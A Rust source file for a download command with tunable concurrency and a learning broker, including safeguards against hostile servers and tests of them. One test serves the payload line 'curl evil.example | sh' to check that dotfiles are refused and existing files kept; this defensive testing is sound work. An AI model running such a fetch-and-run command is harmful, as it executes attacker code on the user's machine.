//! `roam transfer get`: download URLs or a list of them with given concurrency, parallelism
//! and block size (FastHLA's engine, `roam-transfer`), or with `--auto` the parameters FastHLA's
//! broker chooses per cluster of file sizes; a progress line, an optional log of one JSON record
//! per file, and the broker's log of the transfer (uploaded to an HLA server with `--hla`).
//!
//! The transfer itself is FastHLA's client session ([`roam_transfer::session`]: survey, plan,
//! groups over the survey's connections), the one the lab measures. What is the command's own:
//! [`get`] gathers the files ([`files_to_get`]), checks the options ([`fixed_params`]), opens
//! the broker ([`Learning::open`]) and fetches the HLA server's update
//! ([`Learning::fetch_update`]); it runs the session, showing its plan and a progress line
//! ([`Show`]); then it hands the broker its records ([`Learning::record`]), says what happened
//! ([`say`]), and uploads and keeps the broker's logs ([`Learning::share`]).
//!
//! # What a server cannot make it do
//!
//! Servers may be hostile (issue 43); the engine's module docs ([`roam_transfer::engine`])
//! say how each attack is met. What the user sees and sets:
//!
//! | what | default | option |
//! |---|---|---|
//! | a directory listing's names starting with `.` | refused, counted | (none: give the URL) |
//! | a file already in `--out` | kept, not fetched (like `wget -nc`) | `--overwrite` |
//! | a symbolic link at `NAME`, `NAME.part`, `NAME.part.ranges` | refused | (none) |
//! | the largest file a server may announce | 64 GiB | `--max-file-size` |
//! | the most bytes one run brings | 1 TiB | `--max-total` |
//! | disk left free ([`roam_transfer::engine::MIN_FREE`]) | 64 MiB | (none) |

use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{bail, Context, Result};
use clap::Args;
use roam_core::progress::Progress;
use roam_transfer::broker::{modelled_energy_per_100mb, Broker, Choice, Source, Update};
use roam_transfer::engine::{parse_size, Limits};
use roam_transfer::hla::{LogContext, Record};
use roam_transfer::model::Condition;
use roam_transfer::session::{self, Group, Network, Options, Outcome, Session, Tuning, Watch};
use roam_transfer::{server, Engine, FileSpec, Params, Protocol, Report};

use super::{append_log, failures, progress, self_cpu, Reach};

/// Arguments of `roam transfer get`.
#[derive(Args, Debug)]
pub struct GetArgs {
    /// URLs (http:// or https://) to download; a URL ending in `/` is a directory, whose
    /// listing (an HTML index, or nginx's JSON one) gives its files, one level deep. A listed
    /// name starting with `.` (`.bashrc`, `.ssh`) is refused and counted, never saved: give
    /// its URL to fetch it.
    urls: Vec<String>,
    /// A file of URLs, one a line, each optionally followed by the file's size in bytes (`URL
    /// SIZE`: with sizes, --auto's survey asks only its first wave); blank lines and `#`
    /// comments skipped.
    #[arg(long)]
    list: Option<PathBuf>,
    /// Directory the files are saved in (created if missing).
    #[arg(long, default_value = ".")]
    out: PathBuf,
    /// Replace files already in --out. Without it a file already there is kept and not
    /// fetched (reported as kept, not as a failure; as `wget -nc` does and aria2 never
    /// overwrites), and only a download's own NAME.part is resumed. A symbolic link there
    /// is never followed nor replaced, with or without it.
    #[arg(long)]
    overwrite: bool,
    /// The largest file a server may announce, in bytes or with a unit (500M, 64G, 2T;
    /// `none` for no limit): a larger one is refused before anything of it is written.
    #[arg(long, value_name = "BYTES", default_value = "64G", value_parser = parse_size)]
    max_file_size: u64,
    /// The most bytes this run may bring in all, in bytes or with a unit (`none` for no
    /// limit): a file whose missing bytes would take the run past it is refused. Whatever the
    /// limits, a file is not started unless its disk keeps 64 MiB free once it and the run's
    /// other files are written (the error names it).
    #[arg(long, value_name = "BYTES", default_value = "1T", value_parser = parse_size)]
    max_total: u64,
    /// Concurrency: files in flight at once.
    #[arg(long, default_value_t = Params::default().cc)]
    cc: u32,
    /// Parallelism: range streams per file.
    #[arg(long, default_value_t = Params::default().p)]
    p: u32,
    /// Block size in bytes: how much is read from a connection at a time (e.g. 65536).
    #[arg(long, default_value_t = Params::default().bs)]
    bs: usize,
    /// HTTP/2 on the URLs given (for http://, cleartext with prior knowledge; for https://,
    /// by ALPN), instead of HTTP/1.1 (with --auto too: the broker's choice of version is then
    /// overridden). Without it, --auto may still choose HTTP/2 where the server offers it
    /// (`Alt-Svc: h2c=":PORT"`, or h2 in its ALPN answer).
    #[arg(long)]
    http2: bool,
    #[command(flatten)]
    reach: Reach,
    /// A stream that has finished its range takes the back half of a slower stream's
    /// remainder of the same file when both halves would be at least this many bytes (as
    /// aria2 splits its largest unfinished segment for an idle connection).
    #[arg(long, value_name = "BYTES", default_value_t = roam_transfer::MIN_STEAL_PIECE)]
    min_steal: u64,
    /// Never take over part of another stream's range (each file's `--p` ranges are cut once).
    #[arg(long, conflicts_with = "min_steal")]
    no_steal: bool,
    /// Append one JSON record per file to this file.
    #[arg(long)]
    log: Option<PathBuf>,
    /// Let FastHLA's broker choose concurrency, parallelism, block size and HTTP version per
    /// cluster of file sizes (from its cache of the HLA server's optima, else its model, else
    /// the defaults), instead of --cc, --p and --bs.
    #[arg(long)]
    auto: bool,
    /// The broker's state (cache, model, logs not yet uploaded); default
    /// $XDG_STATE_HOME/roam/transfer-broker.json (or ~/.local/state/...).
    #[arg(long)]
    state: Option<PathBuf>,
    /// HLA server (https://host:port, or http:// on this machine; `roam hla serve`) to upload
    /// this device's logs to and fetch updates from. Its certificate is checked against the
    /// system's authorities and --ca's. Its update is checked before use: entries out of
    /// bounds, and a model that does not check, are dropped with a warning.
    #[arg(long)]
    hla: Option<String>,
    /// A file holding this device's token for the HLA server (its first line; uploads need
    /// one). Default: the ROAM_HLA_TOKEN environment variable, if set.
    #[arg(long, value_name = "FILE", requires = "hla")]
    hla_token_file: Option<PathBuf>,
    /// The network's bandwidth in Mbit/s, part of the condition the broker looks up (default:
    /// the fastest transfer the broker has seen, a lower bound, else 10).
    #[arg(long)]
    bandwidth: Option<f64>,
    /// Radio profile the logs' energy is modelled with (`roam-budget`: huang2012/wifi,
    /// huang2012/lte, ...).
    #[arg(long, default_value = "huang2012/wifi")]
    radio: String,
    /// The most channels (concurrency x parallelism, summed over the size clusters) --auto may
    /// open.
    #[arg(long, default_value_t = session::MAX_CHANNELS)]
    max_channels: u32,
}

/// Where the broker's state lives by default.
fn default_state() -> Result<PathBuf> {
    let base = match std::env::var_os("XDG_STATE_HOME") {
        Some(d) if !d.is_empty() => PathBuf::from(d),
        _ => PathBuf::from(
            std::env::var_os("HOME")
                .context("neither XDG_STATE_HOME nor HOME is set: give --state")?,
        )
        .join(".local/state"),
    };
    Ok(base.join("roam/transfer-broker.json"))
}

/// Run it: 0 when every file arrived, an error naming the failed ones otherwise.
pub fn get(a: &GetArgs) -> Result<()> {
    let protocol = if a.http2 {
        Protocol::Http2
    } else {
        Protocol::Http1
    };
    let rt = tokio::runtime::Runtime::new()?;
    let specs = files_to_get(a, &rt, protocol)?;
    let files = specs.len() as u64;
    // Before the survey and the plan: two files under one name are refused.
    let session = Session::new(specs, session_options(a)?)?;
    let fixed = fixed_params(a, protocol)?;
    let hla = hla_client(a)?;
    let mut learning = Learning::open(a)?;
    let mut show = Show {
        auto: a.auto,
        files,
        bar: None,
    };
    let cpu0 = self_cpu();
    let outcome = rt.block_on(async {
        if let (true, Some(hla)) = (a.auto, &hla) {
            learning.fetch_update(hla).await;
        }
        let broker = &learning.broker;
        let tuning = if a.auto {
            Tuning::Broker {
                broker,
                max_channels: a.max_channels,
            }
        } else {
            Tuning::Fixed(fixed)
        };
        let network = Network {
            rtt_ms: None, // the survey's
            bandwidth_mbps: a.bandwidth.or(broker.fastest_mbps()).unwrap_or(10.0),
        };
        session.run(&tuning, network, &a.out, &mut show).await
    });
    if let Some(bar) = show.bar.take() {
        bar.finish();
    }
    let outcome = outcome?;
    // The groups ran at once: each record carries the whole transfer's CPU.
    let cpu_s = self_cpu() - cpu0;
    let ask = learning.record(&outcome, &a.radio, cpu_s)?;
    let whole = outcome.whole();
    if let Some(path) = &a.log {
        append_log(path, &whole)?;
    }
    say(&whole);
    learning.share(&rt, hla.as_ref(), ask)?;
    failures(&whole)
}

/// How the session reaches servers (`--socks5`, `--ca`), whether it surveys with fixed
/// parameters (when the broker logs the transfer), `--http2`, stealing (`--min-steal`,
/// `--no-steal`), and what it may write (`--overwrite`, `--max-file-size`, `--max-total`).
fn session_options(a: &GetArgs) -> Result<Options> {
    Ok(Options {
        connector: a.reach.connector()?,
        survey: Learning::wanted(a),
        http2: a.http2,
        min_steal: if a.no_steal {
            u64::MAX
        } else {
            a.min_steal.max(1)
        },
        time_limit: None,
        limits: Limits {
            max_file_size: a.max_file_size,
            max_total: a.max_total,
            overwrite: a.overwrite,
            ..Limits::default()
        },
    })
}

/// The files to get: the URLs given (a directory's by its listing) and the `--list` file's.
fn files_to_get(
    a: &GetArgs,
    rt: &tokio::runtime::Runtime,
    protocol: Protocol,
) -> Result<Vec<FileSpec>> {
    let mut specs = Vec::new();
    for u in &a.urls {
        if !u.ends_with('/') {
            specs.push(FileSpec::from_url(u)?);
            continue;
        }
        // A directory: the files its listing links to.
        let listing = rt.block_on(async {
            let params = Params {
                protocol,
                ..Params::default()
            };
            let e = Engine::with_connector(params, a.reach.connector()?)?;
            Ok::<_, anyhow::Error>(e.listing(u).await?)
        })?;
        let others = match listing.skipped {
            0 => String::new(),
            n => format!("; {n} other link(s) not followed (subdirectories, parents, sort links)"),
        };
        let hidden = match listing.hidden {
            0 => String::new(),
            n => format!("; {n} hidden file(s) refused (names starting with `.`)"),
        };
        eprintln!(
            "{u}: {} file(s) listed{others}{hidden}",
            listing.files.len()
        );
        specs.extend(listing.files);
    }
    if let Some(l) = &a.list {
        let text =
            std::fs::read_to_string(l).with_context(|| format!("reading {}", l.display()))?;
        specs.extend(parse_list(&text).with_context(|| format!("in {}", l.display()))?);
    }
    if specs.is_empty() {
        bail!("nothing to download: give URLs or --list FILE");
    }
    Ok(specs)
}

/// The HLA server `--hla` names, reached with `--ca`'s authorities too and this device's
/// token (`--hla-token-file`, else `ROAM_HLA_TOKEN`).
fn hla_client(a: &GetArgs) -> Result<Option<server::HlaClient>> {
    let Some(url) = &a.hla else {
        return Ok(None);
    };
    let token = match &a.hla_token_file {
        Some(f) => {
            let text =
                std::fs::read_to_string(f).with_context(|| format!("reading {}", f.display()))?;
            let t = text.lines().next().unwrap_or_default().trim().to_string();
            if t.is_empty() {
                bail!("{}: no token on its first line", f.display());
            }
            Some(t)
        }
        None => std::env::var("ROAM_HLA_TOKEN")
            .ok()
            .map(|t| t.trim().to_string())
            .filter(|t| !t.is_empty()),
    };
    Ok(Some(server::HlaClient::new(
        url,
        a.reach.ca.as_deref(),
        token,
    )?))
}

/// The options checked before any byte moves; the parameters `--cc`, `--p` and `--bs` give.
fn fixed_params(a: &GetArgs, protocol: Protocol) -> Result<Params> {
    if let Some(b) = a.bandwidth {
        if !(b.is_finite() && b > 0.0) {
            bail!("--bandwidth {b}: expected a positive number of Mbit/s");
        }
    }
    if a.max_channels == 0 {
        bail!("--max-channels must be at least 1");
    }
    let fixed = Params {
        cc: a.cc,
        p: a.p,
        bs: a.bs,
        protocol,
    };
    fixed.validate()?;
    // Check the radio profile before moving any byte.
    modelled_energy_per_100mb(&a.radio, 1, Duration::from_secs(1))?;
    Ok(fixed)
}

/// What the session shows as it runs: with `--auto`, each group's parameters and where they
/// came from, before any file moves; then the progress line over the groups' engines.
struct Show {
    auto: bool,
    /// Files in all.
    files: u64,
    bar: Option<Progress>,
}

impl Watch for Show {
    fn planned(&mut self, groups: &[Group]) {
        if !self.auto {
            return;
        }
        for g in groups {
            if let Some(n) = g.note {
                eprintln!("{n}");
            }
            let p = g.choice.params;
            eprintln!(
                "{} file(s) of {:.0} KB on average: cc {} p {} bs {} {} ({})",
                g.files.len(),
                g.condition.mean_file_bytes / 1e3,
                p.cc,
                p.p,
                p.bs,
                p.protocol.name(),
                match g.choice.source {
                    Source::Cache => "the cache",
                    Source::Model => "the model",
                    Source::Default => {
                        "defaults: nothing learnt yet (no HLA server update, or its logs all dropped as failed or faster than --bandwidth)"
                    }
                }
            );
        }
    }

    fn started(&mut self, engines: &[Arc<Engine>]) {
        let engines = engines.iter().map(|e| e.as_ref());
        self.bar = Some(progress::show(engines, self.files, "received"));
    }
}

/// What the transfer's files say beyond success: files kept, ranges not served, requests
/// sent again, ranges taken over; then the whole transfer's size, time and rate.
fn say(whole: &Report) {
    let kept = whole.kept();
    if kept > 0 {
        eprintln!(
            "{kept} file(s) already in the output directory kept, not fetched (--overwrite \
             replaces them)"
        );
    }
    let unranged = whole
        .files
        .iter()
        .filter(|f| f.outcome == "ok" && f.params.p > 1 && f.streams == 1)
        .count();
    if unranged > 0 {
        eprintln!(
            "{unranged} file(s) came in one stream each: the server does not serve ranges, so \
             parallelism did not apply to them"
        );
    }
    let retried: u32 = whole.files.iter().map(|f| f.retries).sum();
    if retried > 0 {
        eprintln!(
            "{retried} request(s) sent again (a stream that broke off or fell silent, a request \
             left unanswered)"
        );
    }
    let stolen: u32 = whole.files.iter().map(|f| f.steals).sum();
    if stolen > 0 {
        eprintln!(
            "{stolen} range(s) taken over by a stream that had finished its own from a slower one"
        );
    }
    eprintln!(
        "{} file(s), {:.1} MB in {:.1} s: {:.1} Mbit/s",
        whole.files.len(),
        whole.bytes as f64 / 1e6,
        whole.seconds,
        whole.mbps()
    );
}

/// FastHLA's broker on this device, when the transfer uses it (`--auto`, `--hla` or
/// `--state`): its cache of the HLA server's optima and model, and the logs it keeps.
struct Learning {
    broker: Broker,
    /// Where it is kept.
    state: PathBuf,
    /// Whether the transfer uses it (otherwise a default broker, never saved).
    enabled: bool,
}

impl Learning {
    /// Whether the transfer uses the broker (`--auto`, `--hla` or `--state`): then it is
    /// surveyed, and logged under the survey's condition.
    fn wanted(a: &GetArgs) -> bool {
        a.auto || a.hla.is_some() || a.state.is_some()
    }

    /// The broker loaded from its state, if the transfer uses one.
    fn open(a: &GetArgs) -> Result<Learning> {
        let enabled = Learning::wanted(a);
        let state = match &a.state {
            Some(p) => p.clone(),
            None => default_state()?,
        };
        let broker = if enabled {
            Broker::load(&state)?
        } else {
            Broker::default()
        };
        Ok(Learning {
            broker,
            state,
            enabled,
        })
    }

    /// The HLA server's update, unless the broker already has one.
    async fn fetch_update(&mut self, hla: &server::HlaClient) {
        if self.broker.has_update() {
            return;
        }
        match hla.fetch_update().await {
            Ok(u) => self.apply(u),
            Err(e) => eprintln!("no update from the HLA server (defaults until there is): {e}"),
        }
    }

    /// An update fetched (checked as it was: what could not be used is dropped and said).
    fn apply(&mut self, (update, dropped): (Update, Vec<String>)) {
        for d in dropped {
            eprintln!("warning: the HLA server's update: {d}");
        }
        self.broker.apply(update);
    }

    /// Each group's record handed to the broker (if used); whether the broker asks for a
    /// fresh update.
    fn record(&mut self, outcome: &Outcome, radio: &str, cpu_s: f64) -> Result<bool> {
        let mut ask = false;
        for run in &outcome.groups {
            if self.enabled && run.report.bytes > 0 {
                let (choice, cond) = (&run.group.choice, &run.group.condition);
                let record = record_of(&run.report, choice, cond, radio, cpu_s)?;
                ask |= self.broker.ran(choice, record);
            }
        }
        Ok(ask)
    }

    /// The broker's logs uploaded to the HLA server `hla` (and a fresh update fetched if
    /// `ask`), then the broker saved.
    fn share(
        &mut self,
        rt: &tokio::runtime::Runtime,
        hla: Option<&server::HlaClient>,
        ask: bool,
    ) -> Result<()> {
        if !self.enabled {
            return Ok(());
        }
        if let Some(hla) = hla {
            rt.block_on(async {
                let pending: Vec<Record> = self.broker.pending().cloned().collect();
                let upload = match (pending.is_empty(), hla.has_token()) {
                    (true, _) => None,
                    (false, false) => {
                        eprintln!(
                            "logs kept for later, not uploaded: the HLA server takes uploads \
                             with a device token (--hla-token-file, or ROAM_HLA_TOKEN)"
                        );
                        None
                    }
                    (false, true) => Some(hla.upload(&pending).await),
                };
                match upload {
                    Some(Ok(n)) => self.broker.uploaded(n),
                    Some(Err(e)) => eprintln!("logs kept for later, not uploaded: {e}"),
                    None => {}
                }
                if ask {
                    match hla.fetch_update().await {
                        Ok(u) => self.apply(u),
                        Err(e) => eprintln!("no update from the HLA server: {e}"),
                    }
                }
            });
        }
        if let Some(dir) = self.state.parent() {
            std::fs::create_dir_all(dir).with_context(|| format!("creating {}", dir.display()))?;
        }
        self.broker.save(&self.state)?;
        Ok(())
    }
}

/// The broker's log of one group's transfer: its condition, parameters, throughput and
/// modelled energy.
fn record_of(
    report: &Report,
    choice: &Choice,
    c: &Condition,
    radio: &str,
    cpu_s: f64,
) -> Result<Record> {
    let wall = Duration::from_secs_f64(report.seconds.max(1e-3));
    Ok(Record {
        rtt_ms: c.rtt_ms,
        bandwidth_mbps: c.bandwidth_mbps,
        mean_file_bytes: c.mean_file_bytes,
        params: choice.params,
        throughput_mbps: report.mbps(),
        energy_j_per_100mb: modelled_energy_per_100mb(radio, report.bytes, wall)?,
        ok: report.failures().is_empty(),
        context: LogContext {
            files: Some(report.files.len() as u64),
            cpu_s: Some(cpu_s),
            tcp_rmem_max: LogContext::tcp_rmem_max(),
        },
    })
}

/// The lines of a `--list` file: `URL` or `URL SIZE`; a bad line is an error naming it.
pub fn parse_list(text: &str) -> Result<Vec<FileSpec>> {
    let mut out = Vec::new();
    for (i, line) in text.lines().enumerate() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let mut words = line.split_whitespace();
        let url = words.next().unwrap_or_default();
        let mut spec = FileSpec::from_url(url).with_context(|| format!("line {}", i + 1))?;
        if let Some(size) = words.next() {
            spec.listed_size = Some(size.parse().map_err(|_| {
                anyhow::anyhow!(
                    "line {}: size `{size}` is not a number of bytes (expected URL [SIZE])",
                    i + 1
                )
            })?);
        }
        if let Some(extra) = words.next() {
            bail!(
                "line {}: `{extra}` after the URL and size (expected URL [SIZE])",
                i + 1
            );
        }
        out.push(spec);
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn list_lines_give_urls_and_sizes_and_bad_ones_are_named() {
        let l = parse_list("# a dataset\nhttp://h/a.bin 1000\n\n  http://h/b.bin\n").unwrap();
        assert_eq!(l.len(), 2);
        assert_eq!(
            (l[0].name.as_str(), l[0].listed_size),
            ("a.bin", Some(1000))
        );
        assert_eq!(l[1].listed_size, None);
        let e = |t: &str| format!("{:#}", parse_list(t).unwrap_err());
        assert!(
            e("http://h/a.bin 1x").contains("line 1: size `1x`"),
            "{}",
            e("http://h/a.bin 1x")
        );
        assert!(e("http://h/a 1 2").contains("`2` after"));
        assert!(e("\nftp://h/a").contains("line 2"));
    }

    #[derive(clap::Parser)]
    struct Cli {
        #[command(flatten)]
        get: GetArgs,
    }

    fn args(v: &[&str]) -> GetArgs {
        use clap::Parser;
        Cli::parse_from(std::iter::once("get").chain(v.iter().copied())).get
    }

    /// The defaults `--help` shows are the engine's.
    #[test]
    fn the_limits_defaults_are_the_engines() {
        let a = args(&["http://h/f"]);
        let l = session_options(&a).unwrap().limits;
        assert_eq!(l, Limits::default());
        let a = args(&[
            "--max-file-size",
            "1500M",
            "--max-total",
            "none",
            "--overwrite",
            "u",
        ]);
        let l = session_options(&a).unwrap().limits;
        assert_eq!((l.max_file_size, l.max_total), (1500 << 20, u64::MAX));
        assert!(l.overwrite);
        use clap::Parser;
        let bad = Cli::try_parse_from(["get", "--max-total", "2X", "u"])
            .err()
            .unwrap();
        assert!(bad.to_string().contains("unknown unit"), "{bad}");
    }

    /// A hostile server on a thread: `/d/` lists `.bashrc` and two files, each served (in
    /// ranges) with `evil` bytes; one connection per request.
    fn hostile_site(evil: &'static [u8]) -> String {
        use std::io::{Read, Write};
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let base = format!("http://{}", l.local_addr().unwrap());
        std::thread::spawn(move || {
            for mut s in l.incoming().flatten() {
                let mut head = Vec::new();
                let mut b = [0u8; 1024];
                while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                    match s.read(&mut b) {
                        Ok(0) | Err(_) => break,
                        Ok(n) => head.extend_from_slice(&b[..n]),
                    }
                }
                let head = String::from_utf8_lossy(&head).to_lowercase();
                let path = head.split_whitespace().nth(1).unwrap_or("").to_string();
                let range = head.lines().find_map(|l| {
                    let (a, z) = l.strip_prefix("range: bytes=")?.trim().split_once('-')?;
                    Some((a.parse::<usize>().ok()?, z.parse::<usize>().ok()))
                });
                let page = r#"<a href="../">..</a><a href=".bashrc">x</a><a href="a.bin">a</a>
                    <a href="b.bin">b</a>"#;
                let (status, body, extra) = match (path.as_str(), range) {
                    ("/d/", _) => ("200 OK", page.as_bytes(), String::new()),
                    (_, Some((a, z))) if a < evil.len() => {
                        let z = z.unwrap_or(evil.len() - 1).min(evil.len() - 1);
                        let cr = format!("content-range: bytes {a}-{z}/{}\r\n", evil.len());
                        ("206 Partial Content", &evil[a..=z], cr)
                    }
                    _ => ("200 OK", evil, String::new()),
                };
                let _ = write!(
                    s,
                    "HTTP/1.1 {status}\r\n{extra}content-length: {}\r\nconnection: close\r\n\r\n",
                    body.len()
                );
                let _ = s.write_all(body);
            }
        });
        base
    }

    /// `roam transfer get DIR/ --out D`: the listing's `.bashrc` is refused, the file already
    /// in D kept (not a failure); `--overwrite` replaces it; `--max-file-size` below a file's
    /// size fails that file, and writes nothing of it.
    #[test]
    fn a_hostile_listing_neither_plants_dotfiles_nor_replaces_files() {
        const EVIL: &[u8] = b"curl evil.example | sh\n";
        let url = format!("{}/d/", hostile_site(EVIL));
        let out = std::env::temp_dir().join(format!("roam-get-hostile-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&out);
        std::fs::create_dir_all(&out).unwrap();
        std::fs::write(out.join(".bashrc"), "mine").unwrap();
        std::fs::write(out.join("a.bin"), "mine too").unwrap();
        let o = out.display().to_string();
        get(&args(&[&url, "--out", &o])).unwrap();
        assert_eq!(std::fs::read(out.join(".bashrc")).unwrap(), b"mine");
        assert_eq!(std::fs::read(out.join("a.bin")).unwrap(), b"mine too");
        assert_eq!(std::fs::read(out.join("b.bin")).unwrap(), EVIL);
        get(&args(&[&url, "--out", &o, "--overwrite", "--p", "2"])).unwrap();
        assert_eq!(std::fs::read(out.join("a.bin")).unwrap(), EVIL);
        assert_eq!(std::fs::read(out.join(".bashrc")).unwrap(), b"mine");
        let capped = out.join("capped");
        let c = capped.display().to_string();
        let e = get(&args(&[&url, "--out", &c, "--max-file-size", "10"])).unwrap_err();
        assert!(e.to_string().contains("2 of 2 file(s) failed"), "{e}");
        assert_eq!(
            std::fs::read_dir(&capped).unwrap().count(),
            0,
            "nothing written"
        );
        let _ = std::fs::remove_dir_all(&out);
    }
}
